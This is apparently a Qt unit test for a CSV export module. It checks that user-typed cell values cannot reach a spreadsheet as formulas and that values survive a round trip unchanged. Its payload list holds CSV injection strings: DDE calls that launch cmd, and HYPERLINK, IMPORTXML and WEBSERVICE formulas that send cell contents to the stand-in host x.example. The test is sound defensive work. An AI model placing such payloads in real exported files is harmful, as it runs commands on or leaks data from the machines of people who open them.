#include <QTest>

#include "client/domain/csv.h"

#include <array>

namespace puente {

namespace {

/// Every way to begin a formula that is known of spreadsheets, times what they were used for.
std::vector<std::string> payloads() {
    const std::array<const char*, 18> starts{"=",  "+",  "-",  "@",   "\t=", "\r=", "\n=", "＝",  "＋",
                                             "－", "＠", "'=", "''=", "\t",  "\r",  "\n",  "'\t", "'＝"};
    const std::array<const char*, 12> bodies{"1+1",
                                             "cmd|' /C calc'!A0",
                                             "HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
                                             "IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")",
                                             "WEBSERVICE(\"http://x.example/\"&B2)",
                                             "DDE(\"cmd\";\"/C calc\";\"x\")",
                                             "SUM(1;1)*cmd|' /C calc'!A0",
                                             "1,\"=2\"",
                                             "1;=2",
                                             "1\"\r\n=2",
                                             "1\n=2,=3",
                                             ""};
    std::vector<std::string> all;
    for (const char* start : starts)
        for (const char* body : bodies)
            all.push_back(std::string(start) + body);
    return all;
}

bool beginsFormula(std::string_view cell) {
    for (const char* trigger : {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"})
        if (cell.starts_with(trigger)) return true;
    return false;
}

} // namespace

/// Nothing that somebody typed reaches a spreadsheet as a formula, and nothing that somebody typed is lost over it.
class InjectionTest : public QObject {
    Q_OBJECT

private slots:
    void noCellBeginsAFormula() {
        const std::vector<std::string> all = payloads();
        QVERIFY(all.size() >= 200);
        for (const CsvFlavour flavour : {CsvFlavour::Standard, CsvFlavour::SpanishExcel})
            for (const std::string& payload : all) {
                const std::string text = writeCsv({{"a", "b"}, {payload, payload}}, flavour);
                const auto table = readCsv(text);
                QVERIFY(table.ok() && table->rows.size() == 1);
                for (const std::string& cell : table->rows[0].cells) {
                    QVERIFY2(!beginsFormula(cell), payload.c_str());
                    QCOMPARE(restoreCell(cell), payload);
                }
            }
    }

    void whatIsHarmlessIsLeftAlone() {
        for (const char* text : {"", "a", "'", "''", "'a", "1.a)", "Decisión #20", " =1", "a=1", "«=»"}) {
            QCOMPARE(harmlessCell(text), std::string(text));
            QCOMPARE(restoreCell(text), std::string(text));
        }
    }
};

} // namespace puente

QTEST_APPLESS_MAIN(puente::InjectionTest)
#include "injection_test.moc"
